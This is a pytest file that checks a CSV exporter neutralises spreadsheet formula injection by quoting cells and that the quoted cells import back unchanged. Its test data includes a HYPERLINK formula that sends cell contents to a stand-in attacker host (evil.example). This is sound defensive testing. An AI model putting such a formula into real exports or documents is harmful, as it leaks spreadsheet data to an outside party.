"""CSV cells a spreadsheet cannot run as formulas (issue 13, CSV export), and that import back unchanged."""
import pytest

from app.refdata.csvio import export, parse
from app.refdata.models import CodeEntry
from app.refdata.tables import upper_code
from app.web.downloads import restore_cell, safe_cell


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?"&A2,"点击")', '\'=HYPERLINK("http://evil.example/?"&A2,"点击")'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # already quoted by someone: one more, so that it comes back as it was
    (-5, "'-5"),
    ("HANS GMBH", "HANS GMBH"), ("a=b", "a=b"), ("'quoted'", "'quoted'"), ("", ""), (None, ""), (12, "12"),
    ("牙刷", "牙刷"),
])
def test_it_neutralises_cells_that_start_a_formula(value, written):
    assert safe_cell(value) == written
    assert restore_cell(written) == ("" if value is None else str(value))


def test_the_code_table_export_writes_no_formula_and_imports_back_the_same():
    entry = CodeEntry(table="package_unit", code="EVIL", name_zh="=1+1", name_en='=HYPERLINK("http://x")',
                      category="", active=True, sort=-5, attrs={}, source="@local")
    text = export([entry])
    line = text.splitlines()[1]
    assert line.startswith("EVIL,'=1+1,\"'=HYPERLINK(\"\"http://x\"\")\",,1,'-5,")
    assert line.endswith(",'@local")
    rows, errors = parse(text, upper_code)
    assert errors == []
    assert (rows[0].name_zh, rows[0].name_en, rows[0].sort, rows[0].source) == \
        ("=1+1", '=HYPERLINK("http://x")', -5, "@local")
